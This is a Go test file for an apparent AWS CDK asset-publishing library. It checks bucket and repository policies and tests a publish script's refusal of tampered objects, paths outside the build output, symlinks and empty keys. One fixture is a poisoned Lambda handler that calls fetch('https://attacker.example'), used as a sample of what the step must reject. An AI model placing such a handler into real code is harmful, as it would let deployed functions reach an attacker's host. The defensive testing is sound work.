package assets_test

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aws/aws-cdk-go/awscdk/v2"
	"github.com/aws/aws-cdk-go/awscdk/v2/awsecrassets"
	"github.com/aws/aws-cdk-go/awscdk/v2/awslambda"
	"github.com/aws/jsii-runtime-go"
	"github.com/google/go-cmp/cmp"

	"github.com/relaycdk/relay/constructs/assets"
	"github.com/relaycdk/relay/constructs/relaytest"
	"github.com/relaycdk/relay/internal/cdkapp"
)

func TestMain(m *testing.M) { os.Exit(relaytest.Main(m)) }

type m = map[string]interface{}

// policyOf is the one policy document of type typ in tpl, by key.
func resources(tpl m, typ string) []m {
	var out []m
	for _, r := range tpl["Resources"].(m) {
		if r.(m)["Type"] == typ {
			out = append(out, r.(m)["Properties"].(m))
		}
	}
	return out
}

func storeTemplate(t *testing.T, props *assets.StoreProps) m {
	t.Helper()
	app := relaytest.NewApp()
	stack := awscdk.NewStack(app, jsii.String("Tooling"), &awscdk.StackProps{
		Env: &awscdk.Environment{Account: jsii.String("111111111111"), Region: jsii.String("eu-west-1")},
	})
	relaytest.Do(t, "NewStore", func() { assets.NewStore(stack, "Assets", props) })
	return relaytest.JSON(t, stack)
}

// TestStoreGrants pins every statement of the bucket and repository
// policies: readers by account and exact role, Lambda by function ARN, and
// nothing else besides the TLS guard.
func TestStoreGrants(t *testing.T) {
	tpl := storeTemplate(t, &assets.StoreProps{
		BucketName: "shop-assets-111111111111-eu-west-1", RepositoryName: "relay/shop/assets",
		Readers: assets.Readers{
			Accounts: []string{"333333333333", "222222222222"},
			RoleArns: []string{"arn:aws:iam::222222222222:role/relay/shop/shop-staging-cfn-exec", "arn:aws:iam::333333333333:role/relay/shop/shop-production-cfn-exec"},
		},
	})
	bucket := resources(tpl, "AWS::S3::Bucket")
	if len(bucket) != 1 || bucket[0]["BucketName"] != "shop-assets-111111111111-eu-west-1" {
		t.Fatalf("buckets %v", bucket)
	}
	enc := bucket[0]["BucketEncryption"].(m)["ServerSideEncryptionConfiguration"].([]interface{})[0].(m)["ServerSideEncryptionByDefault"].(m)["SSEAlgorithm"]
	if enc != "AES256" {
		t.Errorf("bucket encryption %v, want AES256 (SSE-S3: readers need no key grant)", enc)
	}
	var read m
	for _, s := range resources(tpl, "AWS::S3::BucketPolicy")[0]["PolicyDocument"].(m)["Statement"].([]interface{}) {
		st := s.(m)
		if st["Effect"] == "Deny" {
			continue // the TLS guard
		}
		if read != nil {
			t.Errorf("a second allow statement: %v", st)
		}
		read = st
	}
	wantRead := m{
		"Sid": "ReadAssets", "Effect": "Allow", "Action": []interface{}{"s3:GetObject", "s3:GetObjectVersion"},
		"Principal": m{"AWS": []interface{}{
			m{"Fn::Join": []interface{}{"", []interface{}{"arn:", m{"Ref": "AWS::Partition"}, ":iam::222222222222:root"}}},
			m{"Fn::Join": []interface{}{"", []interface{}{"arn:", m{"Ref": "AWS::Partition"}, ":iam::333333333333:root"}}},
		}},
		"Condition": m{"ArnLike": m{"aws:PrincipalArn": []interface{}{
			"arn:aws:iam::222222222222:role/relay/shop/shop-staging-cfn-exec", "arn:aws:iam::333333333333:role/relay/shop/shop-production-cfn-exec"}}},
		"Resource": m{"Fn::Join": []interface{}{"", []interface{}{m{"Fn::GetAtt": []interface{}{read["Resource"].(m)["Fn::Join"].([]interface{})[1].([]interface{})[0].(m)["Fn::GetAtt"].([]interface{})[0], "Arn"}}, "/*"}}},
	}
	if diff := cmp.Diff(wantRead, read); diff != "" {
		t.Errorf("bucket read statement (-want +got):\n%s", diff)
	}
	repo := resources(tpl, "AWS::ECR::Repository")
	if len(repo) != 1 || repo[0]["RepositoryName"] != "relay/shop/assets" || repo[0]["ImageTagMutability"] != "IMMUTABLE" {
		t.Fatalf("repositories %v", repo)
	}
	got := repo[0]["RepositoryPolicyText"].(m)["Statement"].([]interface{})
	want := []interface{}{
		m{"Sid": "PullFromTargetAccounts", "Effect": "Allow",
			"Action":    []interface{}{"ecr:BatchCheckLayerAvailability", "ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"},
			"Principal": wantRead["Principal"]},
		m{"Sid": "LambdaPullForTargetAccounts", "Effect": "Allow",
			"Action":    []interface{}{"ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"},
			"Principal": m{"Service": "lambda.amazonaws.com"},
			"Condition": m{"StringLike": m{"aws:sourceArn": []interface{}{"arn:aws:lambda:eu-west-1:222222222222:function:*", "arn:aws:lambda:eu-west-1:333333333333:function:*"}}}},
	}
	// The partition is a token in principals and resolved in conditions.
	for _, s := range got {
		if c, ok := s.(m)["Condition"].(m); ok {
			for _, v := range c {
				arns := v.(m)["aws:sourceArn"].([]interface{})
				for i, a := range arns {
					if j, ok := a.(m); ok {
						parts := j["Fn::Join"].([]interface{})[1].([]interface{})
						arns[i] = "arn:aws" + parts[2].(string)
					}
				}
			}
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("repository policy (-want +got):\n%s", diff)
	}
}

// TestStoreOrganization: with an organization, any principal whose ARN
// matches the patterns, from the accounts under the OUs or from the listed
// accounts, never from the whole organization (any member account could
// create a matching role); one size for any fleet under the OUs.
func TestStoreOrganization(t *testing.T) {
	patterns := []interface{}{"arn:aws:iam::*:role/relay/shop/shop-*-cfn-exec", "arn:aws:iam::*:role/stacksets-exec-*"}
	ouScope := m{"ArnLike": m{"aws:PrincipalArn": patterns}, "StringEquals": m{"aws:PrincipalOrgID": "o-a1b2c3d4e5"},
		"ForAnyValue:StringLike": m{"aws:PrincipalOrgPaths": []interface{}{"o-a1b2c3d4e5/*/ou-ab12-cd34ef56/*", "o-a1b2c3d4e5/*/ou-ab12-cd34ef57/*"}}}
	accountScope := m{"ArnLike": m{"aws:PrincipalArn": patterns},
		"StringEquals": m{"aws:PrincipalOrgID": "o-a1b2c3d4e5", "aws:PrincipalAccount": []interface{}{"222222222222", "333333333333"}}}
	for _, tc := range []struct {
		name    string
		readers assets.Readers
		want    map[string]m // Sid: Condition
	}{
		{"OUs", assets.Readers{OrganizationalUnits: []string{"ou-ab12-cd34ef57", "ou-ab12-cd34ef56"}},
			map[string]m{"ReadAssets": ouScope}},
		{"accounts", assets.Readers{Accounts: []string{"333333333333", "222222222222"}},
			map[string]m{"ReadAssets": accountScope}},
		{"OUs and accounts outside them", assets.Readers{OrganizationalUnits: []string{"ou-ab12-cd34ef56", "ou-ab12-cd34ef57"}, Accounts: []string{"222222222222", "333333333333"}},
			map[string]m{"ReadAssets": ouScope, "ReadAssetsFromAccounts": accountScope}},
		{"accounts under the OUs", assets.Readers{OrganizationalUnits: []string{"ou-ab12-cd34ef56", "ou-ab12-cd34ef57"}, Accounts: []string{"222222222222", "333333333333"}, AccountsInOrganizationalUnits: true},
			map[string]m{"ReadAssets": ouScope}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := tc.readers
			r.OrganizationID = "o-a1b2c3d4e5"
			r.RoleArns = []string{"arn:aws:iam::*:role/relay/shop/shop-*-cfn-exec", "arn:aws:iam::*:role/stacksets-exec-*"}
			tpl := storeTemplate(t, &assets.StoreProps{BucketName: "shop-assets-x", Readers: r})
			got := map[string]m{}
			for _, s := range resources(tpl, "AWS::S3::BucketPolicy")[0]["PolicyDocument"].(m)["Statement"].([]interface{}) {
				st := s.(m)
				if sid, _ := st["Sid"].(string); strings.HasPrefix(sid, "ReadAssets") {
					if !cmp.Equal(st["Principal"], m{"AWS": "*"}) {
						t.Errorf("%s: principal %v, want any principal with conditions", sid, st["Principal"])
					}
					got[sid] = st["Condition"].(m)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("reader statements' conditions (-want +got):\n%s", diff)
			}
		})
	}
}

func TestStorePropsValidate(t *testing.T) {
	for _, tc := range []struct {
		name    string
		readers assets.Readers
		want    []string
	}{
		{"accounts without roles", assets.Readers{Accounts: []string{"12"}}, []string{
			"Readers.RoleArns []: required with Accounts or OrganizationID; name the roles that deploy the assets",
			`Readers.Accounts[0] "12": must be a 12-digit account ID`,
		}},
		// The organization alone would admit a matching role of any
		// member account.
		{"the organization alone", assets.Readers{OrganizationID: "o-a1b2c3d4e5", RoleArns: []string{"arn:aws:iam::*:role/relay/shop/shop-*-cfn-exec"}}, []string{
			`Readers.OrganizationID "o-a1b2c3d4e5": alone would admit a matching role of any account of the organization, which any member account's administrator can create; name the OUs (OrganizationalUnits) or the accounts (Accounts) that hold the readers`,
		}},
		{"OUs without the organization", assets.Readers{OrganizationalUnits: []string{"ou-ab12-cd34ef56", "ou-x"}, AccountsInOrganizationalUnits: true, RoleArns: []string{"arn:aws:iam::*:role/stacksets-exec-*"}}, []string{
			`Readers.OrganizationalUnits[1] "ou-x": must be an OU ID such as ou-ab12-cd34ef56`,
			`Readers.OrganizationalUnits ["ou-ab12-cd34ef56" "ou-x"]: need OrganizationID, the organization whose paths hold them`,
		}},
		{"accounts in no OUs", assets.Readers{OrganizationID: "o-a1b2c3d4e5", Accounts: []string{"222222222222"}, AccountsInOrganizationalUnits: true, RoleArns: []string{"arn:aws:iam::*:role/relay/shop/shop-*-cfn-exec"}}, []string{
			"Readers.AccountsInOrganizationalUnits: needs OrganizationalUnits that hold the accounts",
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			relaytest.ValidateError(t, (&assets.StoreProps{Readers: tc.readers}).Validate(), "assets.StoreProps: ", tc.want)
		})
	}
}

// workload synthesizes a two-account, two-region workload with one code
// asset and one image asset into a cloud assembly, and returns its folder.
func workload(t *testing.T) string {
	t.Helper()
	src := t.TempDir()
	os.WriteFile(filepath.Join(src, "index.js"), []byte("exports.handler = async () => 1\n"), 0o644)
	os.WriteFile(filepath.Join(src, "Dockerfile"), []byte("FROM public.ecr.aws/docker/library/busybox\n"), 0o644)
	out := t.TempDir()
	relaytest.Do(t, "synth", func() {
		app := cdkapp.New(cdkapp.Options{Outdir: out})
		for _, env := range [][2]string{{"222222222222", "us-east-1"}, {"222222222222", "eu-west-1"}, {"333333333333", "us-east-1"}, {"333333333333", "eu-west-1"}} {
			st := awscdk.NewStack(app, jsii.String("shop-"+env[0]+"-"+env[1]), &awscdk.StackProps{
				Env: &awscdk.Environment{Account: jsii.String(env[0]), Region: jsii.String(env[1])},
				Synthesizer: assets.NewSynthesizer(&assets.SynthesizerProps{ToolingAccount: "111111111111",
					BucketName: "shop-assets-111111111111-${AWS::Region}", RepositoryName: "relay/shop/assets"}),
			})
			fn := awslambda.NewFunction(st, jsii.String("Fn"), &awslambda.FunctionProps{Runtime: awslambda.Runtime_NODEJS_22_X(),
				Handler: jsii.String("index.handler"), Code: awslambda.Code_FromAsset(jsii.String(src), nil)})
			img := awsecrassets.NewDockerImageAsset(st, jsii.String("Image"), &awsecrassets.DockerImageAssetProps{Directory: jsii.String(src)})
			awscdk.NewCfnOutput(st, jsii.String("Code"), &awscdk.CfnOutputProps{Value: fn.FunctionName()})
			awscdk.NewCfnOutput(st, jsii.String("ImageUri"), &awscdk.CfnOutputProps{Value: img.ImageUri()})
		}
		app.Synth(nil)
	})
	return out
}

// TestSynthesizerPointsAtTheStores: the templates name the tooling
// account's bucket of their region and its registry, with no bootstrap rule.
func TestSynthesizerPointsAtTheStores(t *testing.T) {
	out := workload(t)
	raw, err := os.ReadFile(filepath.Join(out, "shop-333333333333-eu-west-1.template.json"))
	if err != nil {
		t.Fatal(err)
	}
	var tpl m
	json.Unmarshal(raw, &tpl)
	if _, ok := tpl["Rules"]; ok {
		t.Error("template has a bootstrap version rule")
	}
	fn := resources(tpl, "AWS::Lambda::Function")[0]
	if b := fn["Code"].(m)["S3Bucket"]; b != "shop-assets-111111111111-eu-west-1" {
		t.Errorf("code bucket %v", b)
	}
	uri := tpl["Outputs"].(m)["ImageUri"].(m)["Value"].(m)["Fn::Sub"].(string)
	if !strings.HasPrefix(uri, "111111111111.dkr.ecr.${AWS::Region}.${AWS::URLSuffix}/relay/shop/assets:") {
		t.Errorf("image URI %q: want the tooling account's registry", uri)
	}
}

// TestPublishOncePerRegionAndSkip runs the publish step against fake aws
// and docker commands: each region gets each asset once (four stacks in two
// accounts share them), and a second run publishes nothing.
func TestPublishOncePerRegionAndSkip(t *testing.T) {
	python := pythonBinary(t)
	out := workload(t)
	bin, state := fakeCommands(t)
	script := filepath.Join(t.TempDir(), "publish.py")
	os.WriteFile(script, []byte(assets.PublishScript()), 0o644)
	run := func(region string) string {
		cmd := exec.Command(python, script)
		cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"), "RELAY_REGION="+region,
			"RELAY_ASSET_BUCKET=shop-assets-111111111111-"+region, "RELAY_ASSET_REPOSITORY=relay/shop/assets",
			"RELAY_TOOLING_ACCOUNT=111111111111", "RELAY_MANIFESTS="+out)
		b, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("publish %s: %v\n%s", region, err, b)
		}
		return strings.TrimSpace(string(b))
	}
	// Each region: the code zip, the image and the stacks' template, each
	// once, though two accounts' stacks deploy them there (their templates
	// are identical, so one content hash).
	if got := run("eu-west-1"); !strings.HasSuffix(got, "relay: eu-west-1: 3 assets published, 0 already there") {
		t.Errorf("first run: %s", got)
	}
	if got := run("eu-west-1"); !strings.HasSuffix(got, "relay: eu-west-1: 0 assets published, 3 already there") {
		t.Errorf("second run: %s", got)
	}
	if got := run("us-east-1"); !strings.HasSuffix(got, "relay: us-east-1: 3 assets published, 0 already there") {
		t.Errorf("other region: %s", got)
	}
	calls, _ := os.ReadFile(filepath.Join(state, "calls"))
	var uploads, pushes int
	for _, l := range strings.Split(strings.TrimSpace(string(calls)), "\n") {
		switch {
		case strings.HasPrefix(l, "upload s3://shop-assets-111111111111-"):
			uploads++
		case strings.HasPrefix(l, "push 111111111111.dkr.ecr."):
			pushes++
		}
	}
	if uploads != 4 || pushes != 2 {
		t.Errorf("%d uploads and %d pushes, want 4 (2 files per region) and 2 (one image per region):\n%s", uploads, pushes, calls)
	}
}

// fakeCommands writes fake aws and docker commands into bin, which keep
// their state in state: s3 cp stores the file and its relay-content
// metadata, head-object prints that metadata (None without it) for what was
// stored, get-object copies it back, describe-images succeeds for what
// docker push stored; every upload, login, build and push is logged in
// state/calls.
func fakeCommands(t *testing.T) (bin, state string) {
	t.Helper()
	bin, state = t.TempDir(), t.TempDir()
	fake := `#!/bin/sh
state=` + state + `
log() { echo "$*" >> "$state/calls"; }
case "$1 $2" in
  "s3api head-object") test -f "$state/s3-$4-$6" || exit 254; cat "$state/s3-$4-$6.meta" 2>/dev/null || echo None ;;
  "s3api get-object") cp "$state/s3-$4-$6" "$9" ;;
  "s3 cp") test "$7" = --metadata || exit 2; log "upload $4"; key=$(echo "$4" | sed 's#s3://##; s#/#-#'); cp "$3" "$state/s3-$key"; echo "$8" | sed 's/^relay-content=//' > "$state/s3-$key.meta" ;;
  "ecr describe-images") test -f "$state/ecr-$(echo $4 | tr / -)-$(echo $6 | sed 's/imageTag=//')-$8" ;;
  "ecr get-login-password") echo token ;;
  *) echo "unexpected aws $*" >&2; exit 2 ;;
esac
`
	docker := `#!/bin/sh
state=` + state + `
case "$1" in
  login) cat > /dev/null; echo "login $5" >> "$state/calls" ;;
  build) echo "build $3" >> "$state/calls" ;;
  push) echo "push $2" >> "$state/calls"; repo=$(echo "$2" | sed 's#^[^/]*/##; s#:.*##' | tr / -); tag=${2##*:}; region=$(echo "$2" | cut -d. -f4); touch "$state/ecr-$repo-$tag-$region" ;;
  *) exit 2 ;;
esac
`
	os.WriteFile(filepath.Join(bin, "aws"), []byte(fake), 0o755)
	os.WriteFile(filepath.Join(bin, "docker"), []byte(docker), 0o755)
	return bin, state
}

// pythonBinary is the Python 3 interpreter itself: a version manager's
// shim would put its own folders (with a real aws) first on PATH.
func pythonBinary(t *testing.T) string {
	t.Helper()
	shim, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("no python3: " + err.Error())
	}
	out, err := exec.Command(shim, "-c", "import sys; print(sys.executable)").Output()
	if err != nil {
		t.Skip("python3 does not run: " + err.Error())
	}
	return strings.TrimSpace(string(out))
}

// TestPublishRefusesAnotherStore: a manifest that points elsewhere fails
// the step by name.
func TestPublishRefusesAnotherStore(t *testing.T) {
	python := pythonBinary(t)
	out := workload(t)
	script := filepath.Join(t.TempDir(), "publish.py")
	os.WriteFile(script, []byte(assets.PublishScript()), 0o644)
	cmd := exec.Command(python, script)
	cmd.Env = append(os.Environ(), "RELAY_REGION=us-east-1", "RELAY_ASSET_BUCKET=other-bucket",
		"RELAY_TOOLING_ACCOUNT=111111111111", "RELAY_MANIFESTS="+out)
	b, err := cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(b), "goes to bucket shop-assets-111111111111-us-east-1; Relay publishes to other-bucket: synthesize the workload with assets.NewSynthesizer") {
		t.Errorf("err %v, output %s", err, b)
	}
}

// TestPublishTrustsNoEarlierContent runs the publish step on a hand-written
// build output in cn-north-1 (one zipped folder, one image) against fake aws
// and docker commands: an object already under the file asset's key is
// skipped only when it holds the folder's content (relay-content metadata,
// or the zip's entries for an object without it); with other content the
// step fails by name and uploads nothing, since a later release would
// otherwise deploy what an earlier execution's build output put under its
// key. A source outside the build output is refused, and the registry is
// the China partition's.
func TestPublishTrustsNoEarlierContent(t *testing.T) {
	python := pythonBinary(t)
	script := filepath.Join(t.TempDir(), "publish.py")
	os.WriteFile(script, []byte(assets.PublishScript()), 0o644)
	const bucket = "shop-assets-111111111111-cn-north-1"
	zipOf := func(files map[string]string) []byte {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for name, body := range files {
			w, _ := z.Create(name)
			w.Write([]byte(body))
		}
		z.Close()
		return b.Bytes()
	}
	sum := func(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }
	// The relay-content digest of the folder {index.js: code}.
	digest := func(code string) string { return sum("index.js\x00" + sum(code) + "\n") }
	const code = "exports.handler = async () => 1\n"
	tests := []struct {
		name string
		// setup changes the build output out and the fake's state.
		setup func(t *testing.T, out, state string)
		want  string // the last line of the output
		ok    bool
		calls []string // the uploads, logins and pushes
	}{
		{
			name:  "nothing published yet",
			setup: func(*testing.T, string, string) {},
			want:  "relay: cn-north-1: 2 assets published, 0 already there", ok: true,
			calls: []string{"upload s3://" + bucket + "/aaa.zip", "login 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn",
				"build 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb", "push 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb"},
		},
		{
			name: "the same content published by Relay",
			setup: func(t *testing.T, out, state string) {
				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": code}), 0o644)
				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip.meta"), []byte(digest(code)+"\n"), 0o644)
			},
			want: "relay: cn-north-1: 1 assets published, 1 already there", ok: true,
			calls: []string{"login 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn",
				"build 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb", "push 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb"},
		},
		{
			name: "the same content without metadata (published before the check)",
			setup: func(t *testing.T, out, state string) {
				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": code}), 0o644)
			},
			want: "relay: cn-north-1: 1 assets published, 1 already there", ok: true,
			calls: []string{"login 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn",
				"build 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb", "push 111111111111.dkr.ecr.cn-north-1.amazonaws.com.cn/relay/shop/assets:bbb"},
		},
		{
			name: "other content published by an earlier execution",
			setup: func(t *testing.T, out, state string) {
				evil := "exports.handler = async () => fetch('https://attacker.example')\n"
				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": evil}), 0o644)
				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip.meta"), []byte(digest(evil)+"\n"), 0o644)
			},
			want: "relay: {out}/shop.assets.json: file asset aaa: s3://" + bucket + "/aaa.zip already holds other content than the build output's asset.aaa: Relay never replaces a published asset (a deployment waiting in another execution may read it); find who wrote it in the bucket's object versions and access logs, and delete it if it is not a release's",
		},
		{
			name: "other content without metadata",
			setup: func(t *testing.T, out, state string) {
				os.WriteFile(filepath.Join(state, "s3-"+bucket+"-aaa.zip"), zipOf(map[string]string{"index.js": code, "extra.js": "x"}), 0o644)
			},
			want: "relay: {out}/shop.assets.json: file asset aaa: s3://" + bucket + "/aaa.zip already holds other content than the build output's asset.aaa: Relay never replaces a published asset (a deployment waiting in another execution may read it); find who wrote it in the bucket's object versions and access logs, and delete it if it is not a release's",
		},
		{
			name: "a file asset outside the build output",
			setup: func(t *testing.T, out, state string) {
				manifest(t, out, "/etc", "asset.bbb")
			},
			want: "relay: {out}/shop.assets.json: file asset aaa: /etc is outside the build output {out}: an asset's source must be where cdk synth writes it",
		},
		{
			name: "an image asset above the build output",
			setup: func(t *testing.T, out, state string) {
				manifest(t, out, "asset.aaa", "..")
			},
			want: "relay: {out}/shop.assets.json: image asset bbb: .. is outside the build output {out}: an asset's source must be where cdk synth writes it",
		},
		// aws s3 cp reads a destination that ends in / as a folder and
		// appends the file's name: an empty key with a file named like an
		// earlier release's object would replace that object unchecked.
		{
			name: "an empty object key",
			setup: func(t *testing.T, out, state string) {
				os.WriteFile(filepath.Join(out, "asset.aaa", "released.zip"), []byte("PK evil"), 0o644)
				manifestAt(t, out, "asset.aaa/released.zip", "file", "", "asset.bbb")
			},
			want: `relay: {out}/shop.assets.json: file asset aaa: object key '' names no object (aws s3 cp would upload the file under <its file name>, a key whose content this step does not check): synthesize the workload with assets.NewSynthesizer, whose keys are <content hash>.<extension>`,
		},
		{
			name: "an object key that ends in /",
			setup: func(t *testing.T, out, state string) {
				manifestAt(t, out, "asset.aaa", "zip", "${AWS::Region}/", "asset.bbb")
			},
			want: `relay: {out}/shop.assets.json: file asset aaa: object key 'cn-north-1/' names no object (aws s3 cp would upload the file under cn-north-1/<its file name>, a key whose content this step does not check): synthesize the workload with assets.NewSynthesizer, whose keys are <content hash>.<extension>`,
		},
		{
			name: "a link out of an asset folder",
			setup: func(t *testing.T, out, state string) {
				os.Symlink("/etc/hostname", filepath.Join(out, "asset.aaa", "host"))
			},
			want: "relay: {out}/asset.aaa: host links outside the build output {out}: an asset's files must be where cdk synth writes them",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, _ := filepath.EvalSymlinks(t.TempDir())
			os.MkdirAll(filepath.Join(out, "asset.aaa"), 0o755)
			os.MkdirAll(filepath.Join(out, "asset.bbb"), 0o755)
			os.WriteFile(filepath.Join(out, "asset.aaa", "index.js"), []byte(code), 0o644)
			os.WriteFile(filepath.Join(out, "asset.bbb", "Dockerfile"), []byte("FROM scratch\n"), 0o644)
			manifest(t, out, "asset.aaa", "asset.bbb")
			bin, state := fakeCommands(t)
			tt.setup(t, out, state)
			cmd := exec.Command(python, script)
			cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"), "RELAY_REGION=cn-north-1",
				"RELAY_ASSET_BUCKET="+bucket, "RELAY_ASSET_REPOSITORY=relay/shop/assets",
				"RELAY_TOOLING_ACCOUNT=111111111111", "RELAY_MANIFESTS="+out, "RELAY_OUTPUT="+out)
			b, err := cmd.CombinedOutput()
			lines := strings.Split(strings.TrimSpace(string(b)), "\n")
			if got, want := lines[len(lines)-1], strings.ReplaceAll(tt.want, "{out}", out); got != want || (err == nil) != tt.ok {
				t.Errorf("err %v, last line\n%s\nwant\n%s", err, got, want)
			}
			raw, _ := os.ReadFile(filepath.Join(state, "calls"))
			var calls []string
			if s := strings.TrimSpace(string(raw)); s != "" {
				calls = strings.Split(s, "\n")
			}
			if diff := cmp.Diff(tt.calls, calls); diff != "" {
				t.Errorf("calls (-want +got):\n%s", diff)
			}
		})
	}
}

// manifest writes out/shop.assets.json: the file asset aaa (a zipped
// folder at path) and the image asset bbb (built in directory), both bound
// for cn-north-1's store.
func manifest(t *testing.T, out, path, directory string) {
	t.Helper()
	manifestAt(t, out, path, "zip", "aaa.zip", directory)
}

// manifestAt is manifest with the file asset's packaging and object key.
func manifestAt(t *testing.T, out, path, packaging, key, directory string) {
	t.Helper()
	doc := m{"version": "36.0.0",
		"files": m{"aaa": m{"source": m{"path": path, "packaging": packaging},
			"destinations": m{"d": m{"bucketName": "shop-assets-111111111111-${AWS::Region}", "objectKey": key, "region": "cn-north-1"}}}},
		"dockerImages": m{"bbb": m{"source": m{"directory": directory},
			"destinations": m{"d": m{"repositoryName": "relay/shop/assets", "imageTag": "bbb", "region": "cn-north-1"}}}}}
	b, _ := json.Marshal(doc)
	if err := os.WriteFile(filepath.Join(out, "shop.assets.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
}
